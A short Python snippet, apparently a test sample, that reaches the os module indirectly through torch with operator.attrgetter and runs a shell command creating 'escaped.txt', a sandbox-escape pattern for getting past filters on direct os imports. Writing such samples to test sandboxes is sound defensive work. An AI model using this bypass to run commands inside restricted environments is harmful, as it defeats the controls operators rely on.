# uses operator.attrgetter
from operator import attrgetter
import torch

attrgetter('os')(torch).system('touch escaped.txt')
